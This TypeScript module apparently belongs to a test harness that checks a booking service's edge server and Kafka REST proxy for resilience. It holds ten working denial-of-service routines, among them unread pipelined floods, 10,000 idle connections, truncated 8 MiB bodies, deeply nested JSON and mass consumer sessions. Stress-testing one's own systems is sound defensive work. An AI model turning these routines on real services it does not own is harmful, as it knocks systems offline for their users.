/** The attacks: each does one thing as fast as it can until its signal aborts. None needs more than an ordinary account. */
import { connect, type Socket } from 'node:net'
import { INTRUDER } from './target.ts'

export interface Attacked {
  edge: string
  proxy: string
  /** Tokens of a traveler and an owner who have nothing to do with the well-behaved client. */
  tokens: { traveler: string; owner: string }
}

export interface Attack {
  name: string
  about: string
  run: (attacked: Attacked, signal: AbortSignal) => Promise<void>
}

const BASIC = `Basic ${Buffer.from(`${INTRUDER.username}:${INTRUDER.password}`).toString('base64')}`
const BODY_BYTES = 8 * 2 ** 20

export const ATTACKS: readonly Attack[] = [
  {
    name: 'pipelined',
    about: '6 connections without credentials send 1 500 requests for /openapi.json each and read no answer',
    run: ({ edge, proxy }, signal) => {
      const flood = (url: string) => unread(url, request(url, 'GET', '/openapi.json').repeat(1_500), signal)
      return all([edge, proxy].flatMap((url) => times(3, () => forever(() => flood(url), signal))))
    },
  },
  {
    name: 'unread',
    about: '60 connections without credentials ask for the script of the reference page and do not read it',
    run: ({ edge }, signal) => {
      const ask = request(edge, 'GET', '/docs/viewer.js').repeat(10)
      return all(times(60, () => forever(() => unread(edge, ask, signal), signal)))
    },
  },
  {
    name: 'idle',
    about: '10 000 connections to the edge that send nothing',
    run: ({ edge }, signal) => all(times(10_000, () => unread(edge, '', signal))),
  },
  {
    name: 'streams',
    about: 'one traveler opens 3 000 event streams and replays the log in 50 more',
    run: ({ edge, tokens }, signal) => {
      const open = (more = '') =>
        unread(edge, request(edge, 'GET', '/v1/notifications/stream', `${bearer(tokens.traveler)}${more}`), signal)
      return all([
        ...times(3_000, () => open()),
        ...times(50, () => forever(() => open('Last-Event-ID: 0.0.0\r\n'), signal)),
      ])
    },
  },
  {
    name: 'ungranted',
    about: '4 connections of an account without the right send 8 MiB of empty messages to /produce',
    run: ({ proxy }, signal) => {
      const body = `[${'{},'.repeat((BODY_BYTES - 4) / 3)}{}]`
      const head = request(proxy, 'POST', '/produce', `Authorization: ${BASIC}\r\nContent-Length: ${body.length}\r\n`)
      return all(times(4, () => forever(() => answered(proxy, head + body, signal), signal)))
    },
  },
  {
    name: 'fetches',
    about: '20 connections ask /fetch for the same end of a partition 1 000 times, and leave at once',
    run: ({ proxy }, signal) => {
      const position = { topic: INTRUDER.consume[0], partition: 0, offset: 1_000_000 }
      const body = JSON.stringify({
        topicPartitionOffsets: Array.from({ length: 1_000 }, () => position),
        timeout: 60_000,
      })
      const head = request(proxy, 'POST', '/fetch', `Authorization: ${BASIC}\r\nContent-Length: ${body.length}\r\n`)
      return all(times(20, () => forever(() => abandoned(proxy, head + body, signal), signal)))
    },
  },
  {
    name: 'stopped',
    about: '16 bodies of 8 MiB stop ten bytes short of their end',
    run: ({ proxy }, signal) => {
      const head = request(proxy, 'POST', '/produce', `Authorization: ${BASIC}\r\nContent-Length: ${BODY_BYTES}\r\n`)
      return all(times(16, () => forever(() => unread(proxy, head + ' '.repeat(BODY_BYTES - 10), signal), signal)))
    },
  },
  {
    name: 'instances',
    about: 'an account makes 1 000 consumer instances with the longest session timeout',
    run: ({ proxy }, signal) => {
      const headers = `Authorization: ${BASIC}\r\nKafka-Session-Timeout-Ms: 999999999\r\n`
      const path = (i: number) => `/consume/intruder-${i}/one/${INTRUDER.consume[0]}`
      return all(times(1_000, (i) => answered(proxy, request(proxy, 'GET', path(i), headers), signal)))
    },
  },
  {
    name: 'bodies',
    about: '20 connections of one traveler send deeply nested JSON to the edge',
    run: ({ edge, tokens }, signal) => {
      const body = '['.repeat(30_000) + ']'.repeat(30_000)
      const headers = `${bearer(tokens.traveler)}Content-Type: application/json\r\nContent-Length: ${body.length}\r\n`
      const ask = request(edge, 'POST', '/v1/bookings', headers) + body
      return all(times(20, () => forever(() => answered(edge, ask, signal), signal)))
    },
  },
  {
    name: 'waits',
    about: 'one owner waits in 2 000 requests for decisions of bookings that do not exist',
    run: ({ edge, tokens }, signal) => {
      const headers = `${bearer(tokens.owner)}Prefer: wait=30\r\nContent-Length: 0\r\n`
      const ask = request(edge, 'POST', '/v1/bookings/00000000-0000-4000-8000-000000000000/accept', headers)
      return all(times(2_000, () => forever(() => answered(edge, ask, signal), signal)))
    },
  },
]

const bearer = (token: string): string => `Authorization: Bearer ${token}\r\n`

const request = (url: string, method: string, path: string, headers = ''): string =>
  `${method} ${path} HTTP/1.1\r\nHost: ${new URL(url).host}\r\n${headers}\r\n`

const times = (count: number, each: (i: number) => Promise<void>): Promise<void>[] =>
  Array.from({ length: count }, (_, i) => each(i))

const all = async (running: readonly Promise<void>[]): Promise<void> => void (await Promise.all(running))

async function forever(once: () => Promise<void>, signal: AbortSignal): Promise<void> {
  while (!signal.aborted) await once()
}

const unread = (url: string, text: string, signal: AbortSignal) =>
  converse(url, text, signal, (socket) => socket.pause())
const answered = (url: string, text: string, signal: AbortSignal) =>
  converse(url, text, signal, (socket) => void socket.once('data', () => socket.destroy()))
const abandoned = (url: string, text: string, signal: AbortSignal) =>
  converse(url, text, signal, (socket) => void socket.end(() => socket.destroy()))

/** Sends a text on a connection of its own; resolves when either side has ended the connection. */
function converse(url: string, text: string, signal: AbortSignal, then: (socket: Socket) => void): Promise<void> {
  if (signal.aborted) return Promise.resolve()
  const { hostname, port } = new URL(url)
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname)
    const end = () => socket.destroy()
    signal.addEventListener('abort', end, { once: true })
    socket.on('error', () => {})
    socket.once('close', () => {
      signal.removeEventListener('abort', end)
      resolve()
    })
    socket.once('connect', () => {
      if (text !== '') socket.write(text)
      then(socket)
    })
  })
}
